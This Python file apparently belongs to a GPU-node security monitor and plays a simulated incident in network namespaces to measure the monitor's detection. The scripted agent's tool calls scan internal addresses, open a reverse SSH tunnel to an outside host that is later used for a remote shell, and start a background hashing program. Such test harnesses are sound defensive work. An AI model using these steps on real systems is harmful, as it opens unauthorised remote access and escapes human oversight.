"""The incident, played: who does what in the lab, and when. The first process of the lab runs this file.

Two machines. On the node: the guard, a training-like job, an administrator who logs in from outside, a user's ordinary
``ssh`` to the outside, and an agent whose tool calls read a file, probe internal addresses, open a reverse tunnel and
start a program that hashes. On the far side: an sshd, and someone who comes back through the tunnel.

What happens is told as JSON lines on standard output: stages, the truth (pids and times, for measuring
only: nothing of it reaches the guard), and every event of the guard with the time at which it could be read.
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import IO, TYPE_CHECKING

import msgspec

from gpuguard.lab import link, secure_shell
from gpuguard.lab.agent import Call
from gpuguard.lab.counters import Script
from gpuguard.lab.namespaces import ROOT, LabClosed, furnish, in_network_of, is_root, run_as_first, tool_path

if TYPE_CHECKING:
    from collections.abc import Callable

STATE = ROOT / "state" / "guard"
RECORDING = "recording"
OTLP = "127.0.0.1:4317"
TUNNEL_PORT = 2222
GUARD_START_TIMEOUT_S = 120.0
GUARD_STOP_TIMEOUT_S = 30.0
#: Time for the guard to finish its sentence after the last thing has happened.
SETTLE_S = 2.0
POLL_S = 0.02

_ADMIN_LINES = ("uptime", "ls -l /var/log", "df -h /", "cat /etc/os-release", "ps aux | head -5", "date")
_OUTSIDER_LINES = ("id", "hostname", "ls -la", "cat /proc/cpuinfo | head -5", "env | head", "ls /run")
_GUARD_CONFIG = """\
[guard]
mode = "{mode}"

[recording]
directory = "{recording}"
"""


class Settings(msgspec.Struct, frozen=True):
    """What the caller wants of the lab. No stand-ins: the GPU half is not played. No guard: only the incident is."""

    standins: str = ""
    record: str = ""
    guard: bool = True
    mode: str = "observe"
    hash_s: float = 10.0
    probes: int = 40
    lines: int = 6
    tunnel_idle_s: float = 3.0


class Lab:
    """Everything that runs in the lab, and its voice."""

    def __init__(self, settings: Settings) -> None:
        self.settings = settings
        self.standins = Path(settings.standins) if settings.standins else None
        self.script: Script | None = None
        self._voice = threading.Lock()

    def tell(self, kind: str, **fields: object) -> None:
        """Write one line."""
        line = json.dumps({"kind": kind, "time_ns": time.time_ns(), **fields})
        with self._voice:
            sys.stdout.write(line + "\n")
            sys.stdout.flush()

    def spawn(self, command: list[str], log: str, **environ: str) -> subprocess.Popen[bytes]:
        """Start a program of the lab; what it prints goes to a log of its own."""
        with (ROOT / "log" / log).open("wb") as output:
            return subprocess.Popen(command, env=dict(os.environ, **environ), stdin=subprocess.DEVNULL, stdout=output,
                                    stderr=output)

    def follow(self, pipe: IO[bytes], take: Callable[[dict[str, object]], None]) -> None:
        """Hand every JSON line of ``pipe`` to ``take``, in a thread of its own."""
        def read() -> None:
            for line in pipe:
                take(json.loads(line))
        threading.Thread(target=read, daemon=True).start()


def main() -> None:
    """Play the incident described by the one argument, `Settings` as JSON."""
    settings = msgspec.json.decode(sys.argv[1], type=Settings)
    run_as_first(lambda: play(settings))


def play(settings: Settings) -> int:
    """Build the lab, play the incident, stop the guard; return the exit status."""
    lab = Lab(settings)
    furnish()
    far = _far_side()
    _join(lab, far)
    keys = secure_shell.make_keys()
    node_server = secure_shell.start_server(keys)
    secure_shell.start_server(keys, far.pid)
    lab.tell("stage", name="lab", root=is_root(), sshd=str(secure_shell.find_server()))
    guard = _start_guard(lab) if settings.guard else None
    _benign(lab, far.pid)
    _incident(lab, far.pid, node_server.pid)
    if guard:
        time.sleep(SETTLE_S)
        _stop_guard(lab, guard)
    lab.tell("stage", name="end")
    return 0


def _far_side() -> subprocess.Popen[bytes]:
    """Make the other machine: a network namespace, held by a process that does nothing else."""
    holder = subprocess.Popen([str(tool_path("unshare")), "--net", "--", "sleep", "infinity"])
    ours = Path("/proc/self/ns/net").readlink()
    for _ in range(500):
        if Path(f"/proc/{holder.pid}/ns/net").readlink() != ours:
            return holder
        time.sleep(0.01)
    raise LabClosed("the far side's network namespace did not come up")


def _join(lab: Lab, far: subprocess.Popen[bytes]) -> None:
    if not link.can_delay():
        link.join_directly(far.pid)
        lab.tell("link", delayed=False)
        return
    bridge = subprocess.Popen([sys.executable, "-m", "gpuguard.lab.link", str(far.pid)], stdout=subprocess.PIPE)
    pipe = bridge.stdout
    if pipe is None or not pipe.readline():
        raise LabClosed("the delay bridge did not come up")
    lab.tell("link", delayed=True, delay_ms=link.DELAY_NS / 1e6)
    lab.follow(pipe, lambda syn: lab.tell("syn", **syn))


def _start_guard(lab: Lab) -> subprocess.Popen[bytes]:
    config = ROOT / "etc" / "gpuguard.toml"
    config.write_text(_GUARD_CONFIG.format(mode=lab.settings.mode,
                                            recording=RECORDING if lab.settings.record else ""))
    environ = {"GPUGUARD_STATE_DIR": str(ROOT / "state"), "GPUGUARD_RUNTIME_DIR": str(ROOT / "run")}
    if lab.standins:
        lab.script = Script(ROOT / "run" / "nvml-script")
        environ |= {"LD_LIBRARY_PATH": str(lab.standins), "GPUGUARD_STANDIN_NVML_SCRIPT": str(lab.script.path)}
    started = time.monotonic()
    guard = lab.spawn([sys.executable, "-m", "gpuguard", "run", "--config", str(config)], "guard", **environ)
    while not _takes_spans():
        if guard.poll() is not None or time.monotonic() - started > GUARD_START_TIMEOUT_S:
            raise LabClosed(f"the guard did not start: {_tail('guard')}")
        time.sleep(POLL_S)
    threading.Thread(target=_forward_events, args=(lab,), daemon=True).start()
    lab.tell("stage", name="guard", pid=guard.pid, mode=lab.settings.mode, after_s=time.monotonic() - started)
    return guard


def _takes_spans() -> bool:
    """Return whether the guard listens for an agent's spans: its sensors are then open."""
    host, port = OTLP.split(":")
    with socket.socket() as attempt:
        return attempt.connect_ex((host, int(port))) == 0


def _stop_guard(lab: Lab, guard: subprocess.Popen[bytes]) -> None:
    ended = guard.poll()
    if ended is None:
        guard.send_signal(signal.SIGTERM)
        with contextlib.suppress(subprocess.TimeoutExpired):
            ended = guard.wait(GUARD_STOP_TIMEOUT_S)
    time.sleep(4 * POLL_S)
    if ended != 0:
        lab.tell("guard_failed", status=ended, text=_tail("guard"))
    if lab.settings.record:
        shutil.copytree(STATE / RECORDING, lab.settings.record, dirs_exist_ok=True, copy_function=shutil.copyfile)
        lab.tell("recorded", directory=lab.settings.record)


def _forward_events(lab: Lab) -> None:
    path = STATE / "events.jsonl"
    rest = b""
    offset = 0
    while True:
        if path.exists():
            with path.open("rb") as events:
                events.seek(offset)
                new = events.read()
            offset += len(new)
            *lines, rest = (rest + new).split(b"\n")
            for line in lines:
                lab.tell("event", event=json.loads(line))
        time.sleep(POLL_S)


def _benign(lab: Lab, far_pid: int) -> None:
    """Start what must be left alone."""
    if lab.standins:
        trainer = lab.spawn([str(lab.standins / "trainer")], "trainer")
        if lab.script:
            lab.script.training(trainer.pid)
        lab.tell("benign", what="trainer", pids=[trainer.pid], text="a training-like job on the other GPU")
    login = [*in_network_of(far_pid), *_typist(1, 40, _ADMIN_LINES),
             *secure_shell.client_command("admin", link.NODE, "-tt")]
    lab.spawn(login, "admin")
    time.sleep(1.2)
    outgoing = lab.spawn([*secure_shell.client_command("outsider", link.FAR), "uname", "-a"], "outgoing")
    lab.tell("benign", what="outgoing", pids=[outgoing.pid], text="a user's ssh command on another machine")


def _incident(lab: Lab, far_pid: int, server_pid: int) -> None:
    plan = _plan(lab)
    lab.tell("benign", what="admin", pids=_descendants(server_pid), text="an administrator's ssh login, typing")
    command = [sys.executable, "-m", "gpuguard.lab.agent", OTLP, msgspec.json.encode(plan).decode()]
    opened = threading.Event()
    hashing: list[int] = []
    agent = subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE)

    def take(truth: dict[str, object]) -> None:
        lab.tell("tool_call", **truth)
        if truth.get("call") == "tunnel":
            opened.set()
        if truth.get("call") == "hasher":
            hashing.append(int(str(truth["pid"])))
            if lab.script:
                lab.script.hashing(hashing[0])

    lab.tell("agent", pid=agent.pid)
    if agent.stdout is None:
        raise LabClosed("the agent has no voice")
    lab.follow(agent.stdout, take)
    if not opened.wait(30):
        raise LabClosed("the agent did not come to open its tunnel")
    time.sleep(lab.settings.tunnel_idle_s)
    visitor = _come_back(lab, far_pid)
    if lab.standins:
        _end_hashing(lab, hashing)
    visitor.wait()
    lab.tell("tunnel_session", pids=_descendants(server_pid))


def _plan(lab: Lab) -> list[Call]:
    probes = [f"10.80.0.{last}" for last in range(1, lab.settings.probes + 1)]
    probe = [sys.executable, "-m", "gpuguard.lab.probe", *probes, "--", "22", "443", "6379"]
    forward = f"{TUNNEL_PORT}:127.0.0.1:22"
    tunnel = secure_shell.client_command("outsider", link.FAR, "-N", "-R", forward)
    calls = [
        Call("read", "read_file", '{"path": "/etc/hosts"}', ("cat", "/etc/hosts")),
        Call("probe", "shell", '{"command": "python scan.py 10.80.0.0/24"}', tuple(probe)),
        Call("tunnel", "shell", f'{{"command": "ssh -N -R {forward} outsider@{link.FAR} &"}}', tuple(tunnel),
             background=True, settle_s=lab.settings.tunnel_idle_s + 2),
    ]
    if lab.standins:
        calls.append(Call("hasher", "shell", '{"command": "./hasher &"}', (str(lab.standins / "hasher"),),
                          output=str(ROOT / "log" / "hasher"), background=True))
    return calls


def _come_back(lab: Lab, far_pid: int) -> subprocess.Popen[bytes]:
    """Let somebody on the far side type in a shell of the node, through the tunnel."""
    login = secure_shell.client_command("agent", "127.0.0.1", "-tt", port=TUNNEL_PORT)
    visitor = subprocess.Popen([*in_network_of(far_pid), *_typist(2, 25, _OUTSIDER_LINES[:lab.settings.lines]), *login],
                               stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    if visitor.stderr is None:
        raise LabClosed("the typist has no voice")
    first = json.loads(visitor.stderr.readline())
    lab.tell("first_use", used_ns=first["started_ns"])
    return visitor


def _end_hashing(lab: Lab, hashing: list[int]) -> None:
    deadline = time.monotonic() + lab.settings.hash_s + 10
    while not hashing and time.monotonic() < deadline:
        time.sleep(POLL_S)
    if not hashing:
        raise LabClosed("the agent did not come to start the hash program")
    time.sleep(lab.settings.hash_s)
    with contextlib.suppress(ProcessLookupError):
        os.kill(hashing[0], signal.SIGTERM)
    time.sleep(0.3)
    said = _tail("hasher")
    if said.startswith("{"):
        lab.tell("first_launch", launched_ns=json.loads(said)["first_launch_ns"])


def _typist(seed: int, seconds: int, lines: tuple[str, ...]) -> list[str]:
    return [sys.executable, "-m", "gpuguard.lab.typist", str(seed), str(seconds), *lines, "--"]


def _descendants(pid: int) -> list[int]:
    """Return every process below ``pid``, parents first."""
    found: list[int] = []
    waiting = [pid]
    while waiting:
        with contextlib.suppress(FileNotFoundError):
            children = Path(f"/proc/{waiting[0]}/task/{waiting[0]}/children").read_text().split()
            found += map(int, children)
            waiting += map(int, children)
        waiting.pop(0)
    return found


def _tail(log: str) -> str:
    text = (ROOT / "log" / log).read_text(errors="replace").strip()
    return "\n".join(text.splitlines()[-12:])


if __name__ == "__main__":
    main()
